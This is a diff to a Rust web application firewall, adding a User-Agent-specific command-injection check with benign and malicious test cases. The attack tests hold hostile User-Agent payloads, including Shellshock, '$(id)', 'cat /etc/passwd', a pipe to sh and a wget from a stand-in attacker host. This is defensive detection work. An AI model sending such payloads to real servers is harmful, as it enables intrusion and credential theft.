@@ -515,7 +515,11 @@ impl Waf {
         if active.contains(Detector::CommandInjection) {
             // Other headers get only the Shellshock check below paranoia 2.
             let full = v.class != Class::Header || pl >= 2;
-            if let Some(hit) = cmdi::check(text, shape, full, pl) {
+            let hit = match v.class {
+                Class::UserAgent => cmdi::user_agent(text, shape, pl),
+                _ => cmdi::check(text, shape, full, pl),
+            };
+            if let Some(hit) = hit {
                 return Some(report(Detector::CommandInjection, text, hit));
             }
         }
@@ -844,6 +848,16 @@ mod tests {
             "grpc-java-netty/1.60.0",
             "aws-sdk-go-v2/1.24.0 os/linux lang/go#1.21.5 md/GOOS#linux md/GOARCH#amd64",
             "Apache-HttpClient/4.5.14 (Java/17.0.9)",
+            // Libraries' defaults that name their language first, and tools with a second token.
+            "Python/3.11 websockets/17.4",
+            "Python/3.11 aiohttp/3.9.1",
+            "Python/3.12 httpx",
+            "Ruby/3.2 foo",
+            "Wget/1.21 x",
+            "curl/8 foo",
+            "Java/17 foo",
+            "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
+            "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/UQ1A.240205.004)",
         ] {
             let h = headers(&[("user-agent", ua)]);
             assert_eq!(w.inspect_head(&head("/", None, &h), &Skips::NONE), None, "{ua}");
@@ -979,6 +993,19 @@ mod tests {
         }
         assert_eq!(attack("cookie", "theme=\"dark mode\"; lang=\"en-GB\""), None);
         assert_eq!(attack("x-forwarded-host", "<script>alert(1)</script>").unwrap().detector, Detector::Xss);
+        // A User-Agent's products are not read as a command line; anything else in it is.
+        for ua in [
+            "curl/8; id",
+            "curl/8; cat /etc/passwd",
+            "Python/3.11 $(id)",
+            "Wget/1.21 | sh",
+            "() { :; }; /bin/bash -c id",
+            "Mozilla/5.0 (X11; `id`) Gecko/20100101",
+            "Mozilla/5.0 (compatible; wget evil.example/x.sh)",
+            "curl/8 (x",
+        ] {
+            assert!(attack("user-agent", ua).is_some(), "{ua}");
+        }
     }
 
     #[test]
